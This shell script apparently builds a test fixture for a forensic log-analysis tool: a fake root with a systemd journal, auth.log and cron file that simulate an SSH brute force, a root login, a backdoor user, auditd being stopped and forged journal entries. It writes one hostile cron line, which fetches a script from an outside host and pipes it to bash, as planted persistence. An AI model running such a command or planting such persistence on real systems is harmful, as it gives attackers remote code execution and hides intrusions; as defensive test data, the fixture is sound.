#!/bin/sh
# A real journal file made by systemd-journal-remote from export-format input, in the
# root's var/log/journal/MACHINE-ID/. rsyslog's auth.log repeats the sshd lines (the
# events must not double); useradd and sudo are only in the journal.
set -e
root=$1
jr=""
for p in /usr/lib/systemd/systemd-journal-remote /lib/systemd/systemd-journal-remote; do
	[ -x "$p" ] && jr=$p && break
done
[ -n "$jr" ] || { echo "SKIP: systemd-journal-remote is not installed (package systemd-journal-remote)"; exit 1; }
mid=fedcba9876543210fedcba9876543210
mkdir -p "$root/etc" "$root/var/log/journal/$mid" "$root/etc/cron.d" "$root/root"
printf 'root:x:0:0:root:/root:/bin/bash\n' >"$root/etc/passwd"
printf '* * * * * root wget -q -O- http://203.0.113.9/s.sh | bash\n' >"$root/etc/cron.d/sysupdate"
python3 - "$root" "$mid" >"$root/in.export" <<'PY'
import sys
root, mid = sys.argv[1], sys.argv[2]
T = 1710000000
ents = [(T, "sshd", "Failed password for root from 203.0.113.9 port 1 ssh2"),
        (T + 2, "sshd", "Failed password for root from 203.0.113.9 port 2 ssh2"),
        (T + 4, "sshd", "Failed password for root from 203.0.113.9 port 3 ssh2"),
        (T + 10, "sshd", "Accepted password for root from 203.0.113.9 port 4 ssh2"),
        (T + 20, "CRON", "pam_unix(cron:session): session opened for user root"),
        (T + 40, "useradd", "new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash"),
        (T + 50, "sudo", "    root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd")]
# a forged entry: `logger -t sshd` by a local user (journald sets _COMM/_UID itself)
print("__REALTIME_TIMESTAMP=%d" % ((T + 12) * 1000000))
print("__MONOTONIC_TIMESTAMP=4000000")
print("_BOOT_ID=0123456789abcdef0123456789abcdef")
print("_MACHINE_ID=" + mid)
print("_HOSTNAME=deb")
print("SYSLOG_IDENTIFIER=sshd")
print("_COMM=logger")
print("_UID=1000")
print("MESSAGE=Accepted password for root from 10.1.2.3 port 22 ssh2")
print()
# forged by a process that named itself sshd (prctl PR_SET_NAME, or run through a link
# named sshd): _COMM says sshd, but journald's _UID and _EXE give it away
print("__REALTIME_TIMESTAMP=%d" % ((T + 13) * 1000000))
print("__MONOTONIC_TIMESTAMP=4100000")
print("_BOOT_ID=0123456789abcdef0123456789abcdef")
print("_MACHINE_ID=" + mid)
print("_HOSTNAME=deb")
print("SYSLOG_IDENTIFIER=sshd")
print("_COMM=sshd")
print("_EXE=/tmp/.x/sshd")
print("_UID=33")
print("MESSAGE=Accepted password for root from 10.6.6.6 port 22 ssh2")
print()
for i, (t, ident, msg) in enumerate(ents):
    print("__REALTIME_TIMESTAMP=%d" % (t * 1000000 + 123456))
    print("__MONOTONIC_TIMESTAMP=%d" % (5000000 + i))
    print("_BOOT_ID=0123456789abcdef0123456789abcdef")
    print("_MACHINE_ID=" + mid)
    print("_HOSTNAME=deb")
    print("SYSLOG_IDENTIFIER=" + ident)
    print("_COMM=" + (ident if ident != "sudo" else "sudo"))
    print("_UID=0")
    print("MESSAGE=" + msg)
    print()
with open(root + "/var/log/auth.log", "w") as f:
    for t, ident, msg in ents[:4]:
        import time
        f.write("%s deb %s[77]: %s\n" % (time.strftime("%Y-%m-%dT%H:%M:%S.000000+00:00", time.gmtime(t)), ident, msg))
PY
"$jr" -o "$root/var/log/journal/$mid/remote.journal" - <"$root/in.export" >/dev/null 2>&1
rm -f "$root/in.export"
touch -d @1710000060 "$root/etc/cron.d/sysupdate"
touch -d @1710000100 "$root/var/log/auth.log"
